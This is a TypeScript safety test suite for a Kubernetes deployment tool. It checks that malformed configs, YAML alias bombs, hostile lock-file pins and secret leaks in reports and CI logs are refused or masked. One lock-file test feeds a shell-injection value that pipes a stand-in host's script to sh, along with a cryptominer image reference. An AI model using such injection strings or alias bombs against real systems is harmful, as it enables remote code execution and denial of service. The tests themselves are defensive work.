/**
 * Bad input, tried the way an unlucky operator or an attacker would (the safety review): each
 * is refused with a message naming what is wrong (exit 2, nothing changed), or handled so
 * that nothing is lost and no secret leaks. Each test failed before its fix.
 */
import { mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { parseAllDocuments } from 'yaml';
import { loadConfig, parseConfig } from '../lib/config/load.ts';
import { exactUnits, parseQuantity } from '../lib/config/quantity.ts';
import { UsageError } from '../lib/core/errors.ts';
import { CommandError } from '../lib/core/exec.ts';
import { Redactor } from '../lib/core/redact.ts';
import { pinnedImages, type Lock } from '../lib/images/lock.ts';
import { nightlyNamespace } from '../lib/nightly/steps.ts';
import type { K8sObject } from '../lib/render/manifests.ts';
import { assertUnique, buildPlan, planInputs } from '../lib/render/plan.ts';
import { bodySnippet, judgeResponse } from '../lib/smoke/health.ts';
import { buildReport, maskReport, reportJson, reportJUnit, reportMarkdown } from '../lib/smoke/report.ts';
import { runScript } from './helpers/cli.ts';

const dir = mkdtempSync(join(tmpdir(), 'demon-safety-'));
const file = (name: string, content: string | Buffer) => {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
};
const usage = (work: () => unknown): UsageError => {
  try {
    work();
  } catch (error) {
    assert.instance(error, UsageError);
    return error as UsageError;
  }
  assert.unreachable('accepted');
  throw new Error('unreachable');
};

const files = suite('safety: config files that are not configs');
files('an alias bomb is a YAML error naming the file (exit 2), refused in milliseconds', () => {
  const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
  for (let i = 1; i < 9; i++)
    levels.push(
      `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
        .fill(`*${String.fromCharCode(96 + i)}`)
        .join(',')}]`,
    );
  const bomb = file('bomb.yaml', `${levels.join('\n')}\n`);
  const error = usage(() => loadConfig(bomb));
  assert.match(error.message, /bomb.yaml is not valid YAML/);
  assert.match(error.problems.join('\n'), /too many YAML aliases/);
});
files('binary garbage gets a short message with no raw control bytes', () => {
  const garbage = file('garbage.yaml', Buffer.from(Array.from({ length: 65536 }, (_, i) => (i * 7919) % 256)));
  const error = usage(() => loadConfig(garbage));
  const text = [error.message, ...error.problems].join('\n');
  assert.ok(text.length < 2_000, `${text.length} characters`);
  // eslint-disable-next-line no-control-regex
  assert.not.match(text, /[\u0000-\u0008\u000e-\u001f\u007f]/);
});
files('a config of many megabytes, a device or a directory is refused before it is read', () => {
  const huge = file('huge.yaml', `# ${'x'.repeat(2 * 1024 * 1024)}\n`);
  assert.match(usage(() => loadConfig(huge)).message, /is 2\.0 MiB; a config is at most 1 MiB/);
  assert.match(usage(() => loadConfig('/dev/zero')).message, /\/dev\/zero is not a regular file/);
  assert.match(usage(() => loadConfig(dir)).message, /is not a regular file/);
});
files.run();

const values = suite('safety: values Kubernetes would refuse, or that would render wrong');
values('quantities are parsed exactly: 1e8 and +2Gi render as whole bytes, never NaN', () => {
  assert.is(exactUnits('1e8'), 100_000_000n);
  assert.is(exactUnits('+2Gi'), 2n * 1024n ** 3n);
  assert.is(exactUnits('500m'), undefined, 'half a byte is not a size');
  assert.equal(parseQuantity('1.5Gi'), { numerator: 15n * 1024n ** 3n, scale: 1 });
  const config = parseConfig({ nats: { jetstream: { maxMemory: '1e8', maxFile: '+2Gi' } } });
  const plan = buildPlan(planInputs({ env: {}, redactor: new Redactor() }, config, 'config/demon.yaml'));
  const natsConf = String(
    (plan.manifests.find((o) => o.metadata.name === 'nats-config')!.data as Record<string, string>)['nats.conf'],
  );
  assert.match(natsConf, /max_memory_store: 100000000\n/);
  assert.match(natsConf, /max_file_store: 2147483648\n/);
  assert.not.match(natsConf, 'NaN');
});
values('two objects of one kind and name in a plan are refused, whatever made them', () => {
  const o = (kind: string, name: string): K8sObject => ({ apiVersion: 'v1', kind, metadata: { name } });
  const error = usage(() =>
    assertUnique([
      o('Service', 'nats'),
      o('Service', 'nats-headless'),
      o('Secret', 'x'),
      o('Service', 'nats-headless'),
    ]),
  );
  assert.equal(error.problems, [
    'Service nats-headless would be made twice, and the second would replace the first; rename the component, Secret or registry that names it',
  ]);
  assertUnique([o('Service', 'x'), o('Deployment', 'x')]);
});
values.run();

const lock = suite('safety: the lock file pins only what it may');
const DIGEST = `sha256:${'a'.repeat(64)}`;
const config = parseConfig({});
const lockWith = (pinned: string): Lock => ({
  version: 1,
  images: {
    runtime: {
      repository: 'ghcr.io/afewell-hh/demon-runtime',
      tags: ['sha-1234567', 'main'],
      digest: DIGEST,
      pinned,
      sourceCommit: 'c',
      builtAt: 'now',
      contentHash: 'h',
    },
  },
});
lock('a pinned image of another repository, or a shell string, is refused (exit 2)', () => {
  for (const evil of [
    'docker.io/attacker/cryptominer:latest',
    '$(curl evil.sh|sh) ; `id`',
    `ghcr.io/afewell-hh/demon-runtime@sha256:${'b'.repeat(64)}`,
  ]) {
    const error = usage(() => pinnedImages(config, lockWith(evil), 'evil.lock.json'));
    assert.match(
      error.problems[0]!,
      /evil.lock.json pins runtime to ".*", which is neither ghcr.io\/afewell-hh\/demon-runtime@sha256:a{64} nor one of its tags/,
    );
  }
});
lock('its own digest or tag is taken', () => {
  assert.equal(pinnedImages(config, lockWith(`ghcr.io/afewell-hh/demon-runtime@${DIGEST}`), 'l'), {
    runtime: `ghcr.io/afewell-hh/demon-runtime@${DIGEST}`,
  });
  assert.equal(pinnedImages(config, lockWith('ghcr.io/afewell-hh/demon-runtime:sha-1234567'), 'l'), {
    runtime: 'ghcr.io/afewell-hh/demon-runtime:sha-1234567',
  });
});
lock.run();

const nightly = suite("safety: the nightly's namespace is always new");
nightly('never the configured namespace, the run id kept whole, at most 63 characters', () => {
  for (let length = 1; length <= 63; length++) {
    const base = `p${'x'.repeat(length - 1)}`;
    for (const runId of ['20261130t031700z', 'b', 'a-very-long-run-identifier-from-a-ci-system-0123456789']) {
      const name = nightlyNamespace(base, runId);
      assert.ok(name.length <= 63, name);
      assert.is.not(name, base);
      assert.ok(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/.test(name), name);
      assert.ok(name.includes('-nightly-'), name);
    }
    assert.is.not(nightlyNamespace(base, 'run-a'), nightlyNamespace(base, 'run-b'), 'two runs share a namespace');
  }
  assert.is(nightlyNamespace('demon-system', '20261130t031700z'), 'demon-system-nightly-20261130t031700z');
});
nightly.run();

const leaks = suite('safety: secrets in what leaves the process');
const QUOTED = 'Q"uo\'te\\Back&<x>-Sentinel';
const LONG = `LongStart-Sentinel-${'Z'.repeat(400)}-LongEnd-Sentinel`;
leaks('reports are masked before they are escaped: no JSON-, XML- or cut-off form of a secret', () => {
  const redactor = new Redactor();
  for (const value of [QUOTED, LONG, 'Line1-Sentinel-aaa\nLine2-Sentinel-bbb']) redactor.add(value);
  const error = `HTTP 503: not ready: ${QUOTED} rejected; token ${LONG}\nLine2-Sentinel-bbb`;
  const report = maskReport(
    buildReport('smoke', new Date(), 1, [{ name: 'runtime /ready', status: 'failed', durationMs: 1, error }]),
    (t) => redactor.mask(t),
  );
  for (const text of [reportJson(report), reportJUnit(report), reportMarkdown(report)])
    assert.not.match(text, 'Sentinel');
});
leaks('a health body is masked whole before it is cut to a snippet', () => {
  const redactor = new Redactor();
  redactor.add(LONG);
  assert.is(
    bodySnippet(`auth failed for token ${LONG}`, 120, (t) => redactor.mask(t)),
    'auth failed for token ***',
  );
  assert.not.match(judgeResponse(500, `token ${LONG}`, undefined, (t) => redactor.mask(t)).detail, 'Sentinel');
});
leaks("a command's error keeps its tail, masked before it is cut: no line of a multi-line secret", () => {
  const redactor = new Redactor();
  redactor.add('Line1-Sentinel-aaa\nLine2-Sentinel-bbb');
  const stderr = [
    'Line1-Sentinel-aaa',
    'Line2-Sentinel-bbb',
    ...Array.from({ length: 19 }, (_, i) => `noise line ${i + 1}`),
  ].join('\n');
  const error = new CommandError(
    { argv: ['kubectl', 'apply', '-f', '-'], exitCode: 1, stdout: '', stderr, durationMs: 1, timedOut: false },
    redactor,
  );
  assert.not.match(error.message, 'Sentinel');
});
leaks.run();

const scripts = suite('safety: the scripts, as a user runs them');
const NO_TOOLS = mkdtempSync(join(tmpdir(), 'demon-safety-no-tools-'));
symlinkSync(process.execPath, join(NO_TOOLS, 'node'));
scripts('--dry-run stays the exact YAML a real run applies when a secret is a common word ("admin")', () => {
  const cfg = file('monitoring.yaml', 'monitoring: { enabled: true }\n');
  const r = runScript('bootstrap.mts', ['--dry-run', '--config', cfg], {
    PATH: NO_TOOLS,
    GRAFANA_ADMIN_PASSWORD: 'admin',
  });
  assert.is(r.code, 0, r.stderr);
  const documents = parseAllDocuments(r.stdout);
  assert.ok(
    documents.every((d) => d.errors.length === 0),
    'the dry-run is valid YAML',
  );
  const objects = documents.map((d) => d.toJS() as K8sObject);
  const secret = objects.find((o) => o.kind === 'Secret' && o.metadata.name === 'grafana-admin')!;
  assert.equal(secret.data, { 'admin-password': '***' });
  assert.ok(
    objects.some((o) => o.metadata.name === 'grafana'),
    'names stay names',
  );
  assert.match(r.stderr, /warning: the value of GRAFANA_ADMIN_PASSWORD also appears in the manifests/);
});
scripts(
  'under GitHub Actions smoke, build-images and the nightly announce every secret line before anything else',
  () => {
    const cfg = file(
      'gha.yaml',
      [
        'monitoring: { enabled: true }',
        'registries: [{ name: ghcr, server: ghcr.io, usernameEnv: GHCR_USERNAME, passwordEnv: GHCR_TOKEN, appliesTo: [runtime, engine, operate-ui] }]',
        `build: { source: ${dir} }`,
        '',
      ].join('\n'),
    );
    const env = {
      PATH: NO_TOOLS,
      GITHUB_ACTIONS: 'true',
      GRAFANA_ADMIN_PASSWORD: 'Graf-Sentinel-1\nGraf-Line2-Sentinel',
      GHCR_USERNAME: 'bot',
      GHCR_TOKEN: 'ghcr-Sentinel-token',
    };
    for (const script of ['smoke.mts', 'build-images.mts', 'nightly.mts']) {
      const r = runScript(script, ['--config', cfg], env);
      assert.ok(r.code !== 0, `${script} should fail without tools`);
      const lines = r.stderr.split('\n').filter(Boolean);
      const firstOther = lines.findIndex((line) => !line.startsWith('::add-mask::'));
      const masks = lines.slice(0, firstOther);
      assert.ok(
        masks.includes('::add-mask::ghcr-Sentinel-token'),
        `${script} announced no mask for the registry token:\n${r.stderr}`,
      );
      if (script !== 'build-images.mts')
        assert.ok(
          masks.includes('::add-mask::Graf-Line2-Sentinel'),
          `${script}: the second line of a multi-line secret is not announced on its own:\n${r.stderr}`,
        );
      for (const line of lines.slice(firstOther)) assert.not.match(line, 'Sentinel', `${script} printed a secret`);
    }
  },
);
scripts.run();
